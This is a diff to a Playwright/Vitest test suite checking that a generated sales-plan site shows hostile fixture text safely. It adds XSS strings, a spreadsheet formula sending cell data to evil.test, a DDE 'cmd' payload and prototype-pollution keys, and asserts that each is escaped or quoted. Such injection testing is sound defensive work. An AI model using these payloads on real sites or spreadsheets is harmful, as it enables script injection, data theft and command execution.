@@ -5,6 +5,7 @@ import { join } from 'node:path';
 import type { Browser, BrowserContext } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { readWorkspace } from '../../src/core/load/read-workspace.ts';
+import { parseCsv } from '../helpers/csv.ts';
 import { snapshotTree } from '../helpers/sandbox.ts';
 import { buildSite, crawl, launchBrowser, ROOT, serve, type CrawledPage } from './helpers.ts';
 
@@ -36,8 +37,12 @@ const dialogs: string[] = [];
 const facts = { h1: '', chart: '', scripts: [] as string[], narrative: '', handlers: 0, pwned: [] as unknown[], images: [] as { src: string; width: number }[], links: 0 };
 const odd = { narrative: '', edit: '', updated: '' };
 const nonAscii = { narrative: '', edit: '', updated: '' };
+/** The portfolio page, where the hostile ledger's clients without a plan are ranked (tests/fixtures/site-hostile/sales/). */
+const portfolio = { text: '', handlers: -1, pwned: 'not visited' as unknown };
 /** The quarterly pack of the hostile plan's owner: the same plan text on another page. */
 const pack = { urls: [] as string[], title: '', handlers: -1 };
+/** The hostile review's page: its text, and how many elements carry an event handler. */
+const review = { text: '', handlers: -1 };
 
 beforeAll(async () => {
   cpSync(join(ROOT, 'tests/fixtures/site-hostile'), plans, { recursive: true });
@@ -73,10 +78,19 @@ beforeAll(async () => {
   pages = await crawl(browser, server.url, server.url, async (page, url) => {
     if (url.endsWith('/accounts/odd/')) Object.assign(odd, await accountFacts(page));
     if (url.endsWith('/accounts/north/')) Object.assign(nonAscii, await accountFacts(page));
+    if (url.endsWith('/portfolio/')) {
+      portfolio.text = (await page.locator('main').textContent()) ?? '';
+      portfolio.handlers = await page.$$eval('*', (els) => els.filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length);
+      portfolio.pwned = await pwned(page);
+    }
     if (url.includes('/packs/ann-lee/')) {
       pack.urls.push(url);
       pack.title = (await page.locator('article.pack-plan h2').first().textContent()) ?? '';
       pack.handlers = await page.$$eval('*', (els) => els.filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length);
+    }
+    if (url.endsWith('/reviews/2026-11/ann-lee/')) {
+      review.text = (await page.locator('main').textContent()) ?? '';
+      review.handlers = await page.$$eval('*', (els) => els.filter((el) => [...el.attributes].some((a) => /^on/i.test(a.name))).length);
     }
     if (!url.endsWith('/accounts/evil/')) return;
     facts.h1 = (await page.locator('h1').textContent()) ?? '';
@@ -155,6 +169,13 @@ describe('a plan whose text is hostile', () => {
     expect(pack.handlers).toBe(0);
   });
 
+  it('shows HTML in a review as text, on the review\'s own page', () => {
+    expect(review.handlers).toBe(0);
+    for (const text of ["<script>alert('review')</script>", "<img src=x onerror=alert('concern')>", "<b onmouseover=alert('note')>hover</b>", "<a href='javascript:alert(7)'>follow</a>", "reason: <script>alert('reason')</script>"]) {
+      expect(review.text).toContain(text);
+    }
+  });
+
   it('shows Mermaid syntax in a stakeholder\'s name as text inside the chart, with every stakeholder drawn', () => {
     const evil = readWorkspace({ plansDir: 'tests/fixtures/site-hostile' }).workspace!.accountById.get('evil')!;
     for (const s of evil.plan.stakeholders) expect(facts.chart).toContain(s.name.replace(/\s+/g, ' '));
@@ -201,5 +222,26 @@ describe('a plan whose text is hostile', () => {
     expect(pages.filter((p) => p.status !== 200 || p.errors.length > 0).map((p) => ({ url: p.url, status: p.status, errors: p.errors }))).toEqual([]);
     expect(pages.map((p) => p.url)).toContain(`${server.url}accounts/evil/`);
     expect(readFileSync(join(site.dir, 'accounts/evil/index.html'), 'utf8')).not.toContain('__pwned');
+  });
+});
+
+describe('a sales ledger whose cells are hostile', () => {
+  const hyperlink = `=HYPERLINK("http://evil.test/?x="&A1,"Click") <img src=x onerror="window.__pwned='ledger'">`;
+
+  it('shows formula and HTML text of clients without a plan as text on the portfolio page, and runs none of it', () => {
+    expect(portfolio.text).toContain(hyperlink);
+    expect(portfolio.text).toContain("<script>window.__pwned='proto'</script>");
+    expect(portfolio.text).toContain('@SUM(1+1)');
+    expect(portfolio.handlers).toBe(0);
+    expect(portfolio.pwned).toBeUndefined();
+  });
+
+  it('quotes them in the ranking download, so a spreadsheet shows them as text and runs no formula', () => {
+    const rows = parseCsv(readFileSync(join(site.dir, 'portfolio/clients.csv'), 'utf8'));
+    expect(rows[0]!.slice(0, 5)).toEqual(['dimension', 'value', 'id', 'client', 'plan']);
+    const clients = rows.slice(1).map((r) => [r[2], r[3], r[4]]);
+    expect(clients).toContainEqual(["'=cmd|' /C calc'!A0", `'${hyperlink}`, 'no']);
+    expect(clients).toContainEqual(['__proto__', "<script>window.__pwned='proto'</script>", 'no']);
+    expect(clients).toContainEqual(['constructor', "'@SUM(1+1)", 'no']);
   });
 });
